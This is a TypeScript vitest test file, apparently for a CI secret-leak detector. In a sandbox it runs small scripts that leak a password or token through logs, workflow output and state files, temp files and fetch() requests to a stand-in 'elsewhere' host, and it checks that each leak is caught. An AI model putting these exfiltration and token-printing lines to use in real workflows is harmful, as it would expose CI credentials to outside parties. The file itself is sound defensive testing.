import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { json, Service } from '../../sandbox/service.ts';
import { startWorld, type World } from '../../sandbox/world.ts';
import { searchSecrets } from '../../torture/secrets.ts';

const PROBE = fileURLToPath(new URL('../sandbox/runner/fixtures/probe', import.meta.url));
const PASSWORD = 'hunter2 & "all"';

let world: World;
let elsewhere: Service;

beforeAll(async () => {
  world = await startWorld();
  elsewhere = await new Service('elsewhere', () => json(200, {})).start();
});

afterAll(async () => {
  await Promise.all([world.stop(), elsewhere.stop()]);
});

beforeEach(() => {
  for (const service of [...world.services, elsewhere]) service.reset();
  world.github.attestations.all.length = 0;
});

/** What a run leaves that does this, with the password in its environment. */
async function foundAfter(script: string, given: readonly string[] = [PASSWORD]): Promise<readonly string[]> {
  const env = { PASSWORD, ELSEWHERE: elsewhere.origin, REGISTRY: world.registry.service.origin };
  const result = await world.run({ actionDirectory: PROBE, inputs: { script }, env, skipPost: true });
  expect(result.exitCode).toBe(0);
  return await searchSecrets(world, result, { given, besides: [elsewhere] });
}

const WRITE = `const { appendFileSync } = await import('node:fs'); const { PASSWORD, GITHUB_OUTPUT, GITHUB_STATE,
  GITHUB_ENV, GITHUB_STEP_SUMMARY, RUNNER_TEMP, HOME, GITHUB_WORKSPACE, TMPDIR } = process.env;`;
const ENCODED = `Buffer.from('ci:' + process.env.PASSWORD).toString('base64')`;

test.for([
  ['stdout', 'console.log(process.env.PASSWORD)', /main: printed/],
  ['stderr', 'console.error(process.env.PASSWORD)', /main: printed/],
  ['a debug line', `console.log('::debug::' + encodeURIComponent(process.env.PASSWORD))`, /main: printed/],
  ['the job’s token', 'console.log(process.env.INPUT_TOKEN)', /main: printed/],
  ['the request token', 'console.log(process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN)', /main: printed/],
  ['an output', `${WRITE} appendFileSync(GITHUB_OUTPUT, 'a=' + PASSWORD + '\\n')`, /main: outputs/],
  ['the state', `${WRITE} appendFileSync(GITHUB_STATE, 'a=' + PASSWORD + '\\n')`, /main: state/],
  ['the environment', `${WRITE} appendFileSync(GITHUB_ENV, 'A=' + PASSWORD + '\\n')`, /main: environment/],
  ['the summary', `${WRITE} appendFileSync(GITHUB_STEP_SUMMARY, PASSWORD)`, /main: summary/],
  ['an annotation', `console.log('::notice::' + ${ENCODED})`, /main: printed/],
  ['a temporary file', `${WRITE} appendFileSync(RUNNER_TEMP + '/x', JSON.stringify({ PASSWORD }))`, /secret in .*\/x/],
  ['HOME', `${WRITE} appendFileSync(HOME + '/.x', PASSWORD)`, /secret in .*\/\.x/],
  ['the workspace', `${WRITE} appendFileSync(GITHUB_WORKSPACE + '/x', PASSWORD)`, /secret in .*\/x/],
  ['an address', `await fetch(process.env.ELSEWHERE + '/?' + encodeURIComponent(process.env.PASSWORD))`, /elsewhere/],
  ['a header', `await fetch(process.env.ELSEWHERE, { headers: { 'x-a': ${ENCODED} } })`, /request to elsewhere/],
  [
    'a login at two origins',
    `for (const to of [process.env.REGISTRY + '/v2/', process.env.ELSEWHERE])
       await fetch(to, { headers: { authorization: 'Basic ' + ${ENCODED} } })`,
    /the same login at/,
  ],
] as const)('a secret is found in %s', async ([, script, place]) => {
  expect((await foundAfter(script)).join('\n')).toMatch(place);
});

test('a secret is found in what is signed and published', async () => {
  const payload = Buffer.from(JSON.stringify({ parameter: `x${PASSWORD}` })).toString('base64');
  const bundle = { dsseEnvelope: { payload } };
  world.github.attestations.all.push({ id: 1, repository: 'acme/api', bundle, predicateType: 'x', digests: [] });
  expect(await foundAfter('')).toEqual(['a secret in attestations']);
});

test('nothing is found where each secret went only where it belongs', async () => {
  const webhook = `${elsewhere.origin}/services/T0/B0/secret`;
  const script = `await fetch(${JSON.stringify(webhook)}, { method: 'POST' });
    await fetch(process.env.REGISTRY + '/v2/', { headers: { authorization: 'Basic ' + ${ENCODED} } });`;
  expect(await foundAfter(script, [PASSWORD, webhook])).toEqual([]);
});
